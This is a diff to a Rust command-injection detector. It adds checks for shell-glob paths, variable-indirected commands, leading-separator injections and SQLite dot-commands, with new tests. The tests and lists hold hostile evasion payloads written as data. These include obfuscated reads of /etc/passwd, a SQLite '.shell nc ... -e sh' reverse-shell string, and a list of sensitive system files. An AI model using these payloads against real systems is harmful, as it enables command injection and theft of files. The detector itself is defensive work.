@@ -223,6 +223,19 @@ const STRONG: &[&str] = &[
     "setcap",
     "capsh",
     "setsid",
+    "regedit",
+    "bcdboot",
+    "aptitude",
+    "htop",
+    "iwr",
+    "iwmi",
+    "invoke-webrequest",
+    "invoke-expression",
+    "gunzip",
+    "unxz",
+    "adduser",
+    "cpulimit",
+    "uconv",
 ];
 
 /// Tool families whose members are `family-verb` (`ansible-playbook`, `chef-client`).
@@ -419,13 +432,23 @@ fn binary(word: &str) -> Option<bool> {
         let strong = STRONG.iter().map(|w| (*w, true));
         WORDS.iter().map(|w| (*w, false)).chain(strong).collect()
     });
-    TABLE.get(word).copied().or_else(|| {
-        let (family, verb) = word.split_once('-')?;
-        (FAMILIES.contains(&family)
-            && !verb.is_empty()
-            && verb.bytes().all(|c| c.is_ascii_lowercase()))
-        .then_some(true)
-    })
+    TABLE
+        .get(word)
+        .copied()
+        .or_else(|| {
+            // A versioned interpreter or compiler (`python3.10`, `gcc7.4`).
+            let stem = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+            (stem.len() >= 2 && stem.len() < word.len() && word.contains('.'))
+                .then(|| TABLE.get(stem).copied().filter(|strong| *strong))
+                .flatten()
+        })
+        .or_else(|| {
+            let (family, verb) = word.split_once('-')?;
+            (FAMILIES.contains(&family)
+                && !verb.is_empty()
+                && verb.bytes().all(|c| c.is_ascii_lowercase()))
+            .then_some(true)
+        })
 }
 
 /// Matches a glob word (`c?t`, `/???/c*t` after the path is dropped) against the table.
@@ -663,7 +686,21 @@ fn command_at_depth(s: &str, after_sep: bool, depth: usize) -> Option<Found> {
         && w.bytes().skip(1).all(|c| c.is_ascii_lowercase())
         && rest.starts_with([' ', '\t', '+'])
     {
-        return command_at_depth(rest, after_sep, depth + 1);
+        return command_at_depth(rest, after_sep, depth + 1).or_else(|| {
+            let (next, _) = word(rest.trim_start_matches([' ', '\t', '+']));
+            binary(&next).map(|_| ("rce.obfuscated_command", 0.8))
+        });
+    }
+    // `a=nc&&$a -nlvp 555`: a binary put in a variable, then run through it.
+    if let Some((name, val)) = w.split_once('=') {
+        if !name.is_empty()
+            && name.len() <= 16
+            && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
+            && binary(val).is_some()
+            && rest.contains(&format!("${name}"))
+        {
+            return Some(("rce.variable_command", 0.85));
+        }
     }
     // `f(){ f|f& };f`: a shell function definition.
     if let Some(body) = rest.trim_start().strip_prefix("()") {
@@ -754,6 +791,185 @@ fn command_at_depth(s: &str, after_sep: bool, depth: usize) -> Option<Found> {
         }
         _ => None,
     }
+}
+
+/// Files an attacker reaches for by a glob, as path segments.
+const GLOB_TARGETS: &[&[&str]] = &[
+    &["etc", "passwd"],
+    &["etc", "shadow"],
+    &["etc", "group"],
+    &["etc", "hosts"],
+    &["etc", "sudoers"],
+    &["etc", "issue"],
+    &["proc", "self", "environ"],
+];
+
+/// A path written with shell globs (`/etc/pas[s]wd`, `/???/?s`, `/et*/*wd`,
+/// `/usr/[a-z]in/bash`) that the shell would resolve to a sensitive file
+/// or a binary: `?` and `*` never cross a `/`, a bracket class is one character.
+fn glob_path(s: &str) -> Option<Found> {
+    let b = s.as_bytes();
+    let mut pat = String::new();
+    for (at, _) in s.match_indices('/').take(32) {
+        if at > 0
+            && !matches!(
+                b[at - 1],
+                b' ' | b'='
+                    | b'+'
+                    | b'\t'
+                    | b'\''
+                    | b'"'
+                    | b'>'
+                    | b'<'
+                    | b';'
+                    | b'|'
+                    | b'&'
+                    | b'('
+                    | b'`'
+            )
+        {
+            continue;
+        }
+        pat.clear();
+        let mut i = at;
+        let mut globbed = false;
+        while i < b.len() && pat.len() < 96 {
+            match b[i] {
+                b'[' => match b
+                    .get(i + 1..)
+                    .and_then(|r| r.iter().take(24).position(|c| *c == b']'))
+                {
+                    Some(end) => {
+                        pat.push('?');
+                        globbed = true;
+                        i += end + 2;
+                    }
+                    None => break,
+                },
+                b'?' | b'*' => {
+                    globbed = true;
+                    pat.push(b[i] as char);
+                    i += 1;
+                }
+                c if c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-') => {
+                    pat.push(c.to_ascii_lowercase() as char);
+                    i += 1;
+                }
+                _ => break,
+            }
+        }
+        let letters = pat.bytes().filter(|c| c.is_ascii_alphanumeric()).count();
+        if !globbed || letters == 0 {
+            continue;
+        }
+        let segs: Vec<&str> = pat.split('/').filter(|x| !x.is_empty()).collect();
+        let m = |p: &str, t: &str| glob(p.as_bytes(), t.as_bytes());
+        let target = GLOB_TARGETS
+            .iter()
+            .any(|t| t.len() == segs.len() && t.iter().zip(&segs).all(|(t, p)| m(p, t)));
+        let bin_dir = |d: &[&str]| match d {
+            [x] => m(x, "bin") || m(x, "sbin"),
+            [u, x] => m(u, "usr") && (m(x, "bin") || m(x, "sbin")),
+            _ => false,
+        };
+        let binary_path = segs.split_last().is_some_and(|(name, dir)| {
+            bin_dir(dir)
+                && name.bytes().any(|c| c.is_ascii_alphanumeric())
+                && STRONG.iter().chain(WORDS).any(|w| m(name, w))
+        });
+        if target || binary_path {
+            return Some(("rce.glob_path", 0.8));
+        }
+    }
+    None
+}
+
+/// A value that opens with a shell separator and a command word
+/// (`;top`, `&aptitude`, `';htop'`, `|vi (x`): the shape of an injection
+/// appended to a command line. Not an HTML entity (`&nbsp;`), not a
+/// Markdown table row (`| a | b |`).
+fn leading_separator(s: &str) -> Option<Found> {
+    let s = s.trim();
+    let t = s.trim_start_matches(['\'', '"']);
+    let quote = s.as_bytes().first().filter(|_| t.len() < s.len());
+    let (sep, after) = if let Some(r) = t.strip_prefix("&&").or(t.strip_prefix("||")) {
+        ("&", r)
+    } else if let Some(r) = t.strip_prefix(';') {
+        (";", r)
+    } else if let Some(r) = t.strip_prefix('&') {
+        ("&", r)
+    } else if let Some(r) = t.strip_prefix('|') {
+        ("|", r)
+    } else {
+        return None;
+    };
+    let r = after.trim_start_matches([' ', '\t']);
+    let n = r
+        .bytes()
+        .take_while(|c| {
+            c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, b'_' | b'-' | b'.')
+        })
+        .count();
+    if !(2..=24).contains(&n) || !r.as_bytes()[0].is_ascii_lowercase() {
+        return None;
+    }
+    let next = r.as_bytes().get(n);
+    if sep == "&" && next == Some(&b';') {
+        return None;
+    }
+    if sep == "|" && r.get(n..).is_some_and(|x| x.contains('|')) {
+        return None;
+    }
+    // The word alone, closing the quote it broke out of, or with an option or path.
+    let ok = match next {
+        None => true,
+        Some(q @ (b'\'' | b'"')) => quote == Some(q) && r.len() == n + 1,
+        Some(b' ' | b'\t' | b'+') => strong_args(r.get(n..).unwrap_or("")),
+        _ => false,
+    };
+    ok.then_some(("rce.leading_separator", 0.6))
+}
+
+/// SQLite shell dot-commands after a statement break (`;\n.shell id`, `1;.system x`).
+fn sqlite_dot_command(s: &str) -> Option<Found> {
+    for (at, _) in s.match_indices(';').take(16) {
+        let mut r = s.get(at + 1..).unwrap_or("");
+        for _ in 0..8 {
+            let t = r.trim_start_matches([' ', '\t', '\r', '\n', '"', '\'']);
+            let t = t
+                .strip_prefix("\\n")
+                .or_else(|| t.strip_prefix('\\'))
+                .unwrap_or(t);
+            if t.len() == r.len() {
+                break;
+            }
+            r = t;
+        }
+        let Some(cmd) = r.strip_prefix('.') else {
+            continue;
+        };
+        let cmd = cmd.trim_start_matches([' ', '\\', '"', '\'']);
+        let w: String = cmd
+            .bytes()
+            .take_while(|c| c.is_ascii_alphabetic())
+            .map(|c| c.to_ascii_lowercase() as char)
+            .collect();
+        if matches!(
+            w.as_str(),
+            "shell"
+                | "system"
+                | "sh"
+                | "databases"
+                | "dump"
+                | "load"
+                | "import"
+                | "output"
+                | "once"
+        ) {
+            return Some(("rce.sqlite_dot_command", 0.8));
+        }
+    }
+    None
 }
 
 /// Text filters that only read what they are given.
@@ -920,6 +1136,15 @@ pub fn detect(s: &str) -> Option<Found> {
             i += 1;
         }
     }
+    if found.is_none() && s.len() <= 4096 && b.contains(&b'/') && s.contains(['?', '*', '[']) {
+        found = glob_path(s);
+    }
+    if found.is_none() {
+        found = leading_separator(s).or_else(|| sqlite_dot_command(s));
+    }
+    if found.is_none() && matches!(s.trim(), "~+" | "~-") {
+        found = Some(("rce.tilde_expansion", 0.6));
+    }
     if found.is_some_and(|f| matches!(f.0, "rce.command" | "rce.command_start"))
         && documented_pipeline(s)
     {
@@ -1010,6 +1235,67 @@ mod tests {
             "python",
             "time flies like an arrow",
             "for each item in (the list) do nothing",
+        ] {
+            assert_eq!(detect(b), None, "flagged {b:?}");
+        }
+    }
+
+    #[test]
+    fn evasions_and_shell_syntax() {
+        for a in [
+            "'i'p a",
+            "\"w\"get localhost",
+            "pi$()ng 127.0.0.1",
+            "pi``ng 127.0.0.1",
+            "c$@at /etc/passwd",
+            "x;c$!at+/et$!c/pas$!swd",
+            "cu$@rl google.com",
+            "\\ls",
+            "{l,-lh}s",
+            "{,ip,a}",
+            "{,ifconfig}",
+            "{,$'whoami',}",
+            "{,/?s?/?i?/c?t,/e??/p??s??,}",
+            "/etc/pas[s]wd",
+            "/???/?s",
+            "cat /et*/*wd",
+            "/usr/[a-z]in/bash",
+            ";top",
+            "&aptitude",
+            "';htop'",
+            ";\\n.shell nc 10.10.10.1 6666 -e sh",
+            "1;.sh whoami",
+            "garb=adduse[r];$garb pizza",
+            ";$a cat test.txt",
+            "python3.10 -c 'import os'",
+            "view=image.jpg&bcdboot /r file.txt",
+            "~+",
+        ] {
+            assert!(detect(a).is_some_and(|f| f.1 >= 0.5), "missed {a:?}");
+        }
+    }
+
+    #[test]
+    fn shell_look_alikes() {
+        for b in [
+            "grep -r 'TODO' src/ | wc -l",
+            "grep -i 'error' app.log | sort | uniq -c | head -20",
+            "Template: Hello {{name}}, your order {{id}} shipped.",
+            "query User($id: ID!) { user(id: $id) { node { id total } } }",
+            "Supported files: *.{jpg,png,gif}",
+            "fields={id,name,email}&sort={created_at,-id}",
+            "I'd say it's fine; O'Keefe's shop opens at 9",
+            "rock'n'roll, 'n' stuff",
+            "O'keefe's",
+            "'id'",
+            "; that's all",
+            "; see above",
+            "| name | qty |\n|------|-----|\n| tea  | 2   |",
+            "&nbsp; is a non-breaking space",
+            "~5 minutes away",
+            "Name the photos report?.jpg or scan*.pdf, then upload to /uploads/2024/",
+            "/api/v1/items?id=3&fields=*",
+            "Done; .NET is great",
         ] {
             assert_eq!(detect(b), None, "flagged {b:?}");
         }
